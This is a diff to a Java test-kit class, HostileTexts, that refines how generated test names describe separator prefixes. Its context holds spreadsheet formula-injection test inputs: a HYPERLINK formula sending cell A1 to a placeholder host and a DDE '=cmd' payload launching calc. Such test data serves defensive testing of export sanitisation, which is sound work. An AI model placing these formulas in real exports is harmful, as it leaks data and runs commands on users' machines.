@@ -2,6 +2,7 @@ package org.patrondesk.testkit;
 
 import java.util.ArrayList;
 import java.util.List;
+import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 import java.util.stream.Stream;
 
@@ -118,8 +119,9 @@ public final class HostileTexts {
             String call = sign + "HYPERLINK(\"http://x.invalid/?\"&A1,\"" + MARK + "\")";
             texts.add(text(name, call));
             for (String before : List.of(" ", "\u00A0", "\uFEFF", "'", "\"", ",", ";", "|", ":", "\t", "\n", "\",\"")) {
-                texts.add(text(name + " behind U+%04X".formatted((int) before.charAt(0)), "a" + before + call));
-                texts.add(text(name + " behind leading U+%04X".formatted((int) before.charAt(0)), before + call));
+                String behind = before.chars().mapToObj("U+%04X"::formatted).collect(Collectors.joining(" "));
+                texts.add(text(name + " behind " + behind, "a" + before + call));
+                texts.add(text(name + " behind leading " + behind, before + call));
             }
         }
         texts.add(text("dynamic data exchange", "=cmd|' /C calc'!" + MARK));
